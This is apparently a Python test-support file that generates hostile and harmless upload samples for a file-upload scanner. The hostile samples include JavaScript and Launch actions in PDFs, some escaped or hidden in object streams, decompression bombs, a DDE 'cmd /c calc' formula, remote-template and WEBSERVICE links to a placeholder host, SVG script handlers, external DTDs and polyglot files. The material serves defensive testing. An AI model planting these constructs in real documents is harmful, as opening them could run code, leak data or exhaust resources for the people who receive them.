"""Hostile files of ten kinds, and harmless files of the same types, made here by real libraries."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.support import uploads
from tests.support.uploads import XLSX, archive, png, workbook, xml

PDF, TEXT_XML, TEXT = "application/pdf", "text/xml", "text/plain"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
FILLER = "<row>" + "稀土 12 吨 " * 1_000 + "</row>"  # beyond what a check of the beginning reads


def document(change: Callable[[Pdf], Any] = lambda made: None, **how: Any) -> bytes:
    """Return a real PDF of one page, changed before it is saved."""
    made = Pdf.new()
    made.add_blank_page()
    made.pages[0].Contents = made.make_stream(b"BT ET")
    change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def action(**parts: Any) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(Type=Name.Action, **parts)

    return change


def script(made: Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def escaped(made: bytes) -> bytes:
    return made.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4A#53")


def in_object_streams(change: Callable[[Pdf], Any]) -> bytes:
    return document(change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def beside(content: bytes, other: bytes) -> bytes:
    """Return two documents in one file; a table of objects leads to the second alone."""
    return content[: content.rindex(b"startxref")] + other[other.index(b"\n") :]


def beside_a_script() -> bytes:
    """Return a harmless document of which one table names all, and a script that no table names."""
    made = document()
    begin = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    lost = b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    lost += packed + b"\nendstream\nendobj\n"
    moved = made[:begin] + lost + made[begin:]
    return moved.replace(b"startxref\n%d" % begin, b"startxref\n%d" % (begin + len(lost)))


def repaired_to_another_root() -> bytes:
    """Return two documents without a table that holds, so that each program chooses one of the two roots."""
    return beside(document(), document()).replace(b"startxref\n", b"startxref\n9")


def on_page(**annotation: Any) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        box = Array([0, 0, 10, 10])
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Rect=box, **annotation))])

    return change


def opens_at_a_page(made: Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def attachment(made: Pdf) -> None:
    made.attachments["run.exe"] = b"MZ"


def hidden_script(made: Pdf) -> None:
    """Return a PDF with a script in a field's event, four dictionaries deep."""
    event = Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("1")))
    made.Root.AcroForm = Dictionary(Fields=Array([Dictionary(AA=event)]))


def flated(size: int, layers: int = 1) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        content = b"\0" * size
        for _layer in range(layers):
            content = zlib.compress(content, 9)
        stream = made.make_stream(content)
        stream.Filter = Array([Name.FlateDecode] * layers)
        made.Root.Extra = stream

    return change


def relations(*targets: tuple[str, str]) -> bytes:
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(targets)
    )
    return f"<Relationships>{rows}</Relationships>".encode()


def sheet(formula: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f'<worksheet><c r="A1"><f>{formula}</f></c></worksheet>'.encode()}


def text_document(parts: dict[str, bytes] | None = None, body: str = "") -> bytes:
    main = f"<w:document>{body}</w:document>".encode()
    return archive({"[Content_Types].xml": uploads.CONTENT_TYPES, "word/document.xml": main, **(parts or {})})


def real_workbook() -> bytes:
    created = Workbook()
    created.active.append(["品名", "吨"])
    created.active.append(["氧化镨钕", 12])
    created.active["C1"] = "=SUM(B2:B9)"
    created.active["D1"].hyperlink = "https://example.org/"
    out = io.BytesIO()
    created.save(out)
    return out.getvalue()


def small_bomb(megabytes: int = 60) -> bytes:
    """Return 58 kB that unpack to 60 MB, which is less than a large file may unpack to."""
    return workbook({"xl/worksheets/sheet1.xml": b" " * (megabytes * 1_000_000)})


def stored_beside(content: bytes) -> bytes:
    """Return a picture with an archive appended."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as created:
        created.writestr("a.html", "<script>")
    return out.getvalue()


ACTIVE, LINKS, REPORT, CUSTOMS = "active_content", "external_links", "report", "customs_declaration"
# kind of harm, name, declared type, content, kind of evidence, code of the refusal
MORE: list[tuple[str, str, str, Callable[[], bytes], str, str]] = [
    ("script", "plain.pdf", PDF, lambda: document(script), REPORT, ACTIVE),
    ("script", "escaped.pdf", PDF, lambda: escaped(document(script)), REPORT, ACTIVE),
    ("script", "stream.pdf", PDF, lambda: in_object_streams(script), REPORT, ACTIVE),
    ("script", "field.pdf", PDF, lambda: in_object_streams(hidden_script), REPORT, ACTIVE),
    ("script", "launch.pdf", PDF, lambda: in_object_streams(action(S=Name.Launch, F="a")), REPORT, ACTIVE),
    (
        "script",
        "submit.pdf",
        PDF,
        lambda: in_object_streams(action(S=Name.SubmitForm, F=String("http://x"))),
        REPORT,
        ACTIVE,
    ),
    (
        "script",
        "share.pdf",
        PDF,
        lambda: in_object_streams(on_page(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String(r"\\host\share")))),
        REPORT,
        ACTIVE,
    ),
    (
        "script",
        "link.pdf",
        PDF,
        lambda: in_object_streams(on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:1")))),
        REPORT,
        ACTIVE,
    ),
    ("script", "unnamed.pdf", PDF, beside_a_script, REPORT, ACTIVE),
    ("script", "roots.pdf", PDF, repaired_to_another_root, REPORT, "truncated_or_damaged"),
    ("carrier", "attachment.pdf", PDF, lambda: in_object_streams(attachment), REPORT, ACTIVE),
    (
        "carrier",
        "media.pdf",
        PDF,
        lambda: in_object_streams(on_page(Subtype=Name.RichMedia)),
        REPORT,
        ACTIVE,
    ),
    (
        "carrier",
        "form.pdf",
        PDF,
        lambda: in_object_streams(lambda made: setattr(made.Root, "AcroForm", Dictionary(XFA=String("x")))),
        REPORT,
        ACTIVE,
    ),
    ("carrier", "object.xlsx", XLSX, lambda: workbook({"xl/embeddings/o.bin": b"1"}), REPORT, ACTIVE),
    ("carrier", "control.xlsx", XLSX, lambda: workbook({"xl/activeX/a.bin": b"1"}), REPORT, ACTIVE),
    ("bomb", "one.pdf", PDF, lambda: document(flated(60_000_000)), REPORT, "archive_bomb"),
    ("bomb", "layers.pdf", PDF, lambda: document(flated(60_000_000, 3)), REPORT, "archive_bomb"),
    ("bomb", "small.xlsx", XLSX, small_bomb, REPORT, "archive_bomb"),
    (
        "link",
        "linked.xlsx",
        XLSX,
        lambda: workbook({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        REPORT,
        LINKS,
    ),
    (
        "link",
        "template.docx",
        DOCX,
        lambda: text_document({"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://x/a.dotm"))}),
        REPORT,
        LINKS,
    ),
    (
        "link",
        "picture.docx",
        DOCX,
        lambda: text_document({"word/_rels/document.xml.rels": relations(("image", "https://x/track.png"))}),
        REPORT,
        LINKS,
    ),
    (
        "link",
        "share.xlsx",
        XLSX,
        lambda: workbook({"xl/worksheets/_rels/sheet1.xml.rels": relations(("hyperlink", r"\\host\share\a.exe"))}),
        REPORT,
        LINKS,
    ),
    (
        "link",
        "connection.xlsx",
        XLSX,
        lambda: workbook({"xl/connections.xml": b"<connections/>"}),
        REPORT,
        LINKS,
    ),
    (
        "link",
        "service.xlsx",
        XLSX,
        lambda: workbook(sheet("_xlfn.WEBSERVICE(&quot;http://x&quot;)")),
        REPORT,
        LINKS,
    ),
    ("link", "dde.xlsx", XLSX, lambda: workbook(sheet("cmd|'/c calc'!A1")), REPORT, LINKS),
    ("link", "other.xlsx", XLSX, lambda: workbook(sheet("[Book2.xlsx]Sheet1!A1")), REPORT, LINKS),
    (
        "link",
        "dde.docx",
        DOCX,
        lambda: text_document(body="<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"),
        REPORT,
        LINKS,
    ),
    ("drawing", "late.xml", TEXT_XML, lambda: xml(f"<d>{FILLER}{SVG}</d>"), CUSTOMS, ACTIVE),
    (
        "drawing",
        "prefixed.xml",
        TEXT_XML,
        lambda: xml(f'<d xmlns:a="http://www.w3.org/2000/svg">{FILLER}<a:rect/></d>'),
        CUSTOMS,
        ACTIVE,
    ),
    (
        "drawing",
        "page.xml",
        TEXT_XML,
        lambda: xml(f'<d>{FILLER}<p xmlns="http://www.w3.org/1999/xhtml">a</p></d>'),
        CUSTOMS,
        ACTIVE,
    ),
    (
        "drawing",
        "style.xml",
        TEXT_XML,
        lambda: xml(head='<?xml-stylesheet type="text/xsl" href="http://x/a.xsl"?>'),
        CUSTOMS,
        ACTIVE,
    ),
    (
        "drawing",
        "handler.xml",
        TEXT_XML,
        lambda: xml('<d onload="alert(1)"/>'),
        CUSTOMS,
        ACTIVE,
    ),
    (
        "drawing",
        "link.xml",
        TEXT_XML,
        lambda: xml('<d href="javascript:alert(1)"/>'),
        CUSTOMS,
        ACTIVE,
    ),
    (
        "entities",
        "type.xml",
        TEXT_XML,
        lambda: xml("<d/>", f'<!-- {"x" * 4000} --><!DOCTYPE d SYSTEM "http://x/a.dtd">'),
        CUSTOMS,
        "xml_entities",
    ),
    (
        "entities",
        "wide.xlsx",
        XLSX,
        lambda: workbook({"xl/styles.xml": '<!DOCTYPE d [<!ENTITY a "b">]><d/>'.encode("utf-16")}),
        REPORT,
        "xml_entities",
    ),
    ("macros", "dialog.xlsx", XLSX, lambda: workbook({"xl/dialogsheets/sheet1.xml": b"<d/>"}), REPORT, "macros"),
    ("macros", "old.xlsx", XLSX, lambda: workbook({"xl/macrosheets/sheet1.xml": b"<d/>"}), REPORT, "macros"),
    ("two natures", "picture.png", "image/png", lambda: stored_beside(png()), "photograph", "polyglot"),
    ("two natures", "page.pdf", PDF, lambda: b"%PDF-1.7 <html>" + document(), REPORT, "polyglot"),
]
# By the code of their refusal, the kind of harm of the first files of this list.
KINDS = {
    "archive_bomb": "bomb",
    "nested_archive": "bomb",
    "archive": "bomb",
    "xml_entities": "entities",
    "macros": "macros",
    "encrypted_or_outdated": "locked",
    "active_content": "script",
    "polyglot": "two natures",
    "path_names": "two natures",
    "too_many_pixels": "damaged",
    "truncated_or_damaged": "damaged",
    "empty": "damaged",
    "malware": "disguised",
    "wrong_type": "disguised",
    "wrong_kind": "disguised",
    "unknown_type": "disguised",
}
CORPUS = [*((KINDS[row[4]], *row) for row in uploads.HOSTILE), *MORE]

HARMLESS: list[tuple[str, str, Callable[[], bytes], str]] = [
    *uploads.HONEST,
    ("page.pdf", PDF, document, "report"),
    ("packed.pdf", PDF, lambda: in_object_streams(lambda made: None), "report"),
    (
        "link.pdf",
        PDF,
        lambda: document(on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/")))),
        "report",
    ),
    (
        "opens.pdf",
        PDF,
        lambda: document(lambda made: setattr(made.Root, "OpenAction", Array([made.pages[0].obj, Name.Fit]))),
        "report",
    ),
    ("scan.pdf", PDF, lambda: document(flated(6_000_000)), "report"),
    ("real.xlsx", XLSX, real_workbook, "special_invoice"),
    (
        "linked.docx",
        DOCX,
        lambda: text_document({"word/_rels/document.xml.rels": relations(("hyperlink", "https://example.org/"))}),
        "report",
    ),
    ("long.xml", TEXT_XML, lambda: xml(f"<d>{FILLER}</d>"), "customs_declaration"),
    ("spaced.xml", TEXT_XML, lambda: xml('<c:d xmlns:c="urn:customs" on="2011-05-01"/>'), "customs_declaration"),
]
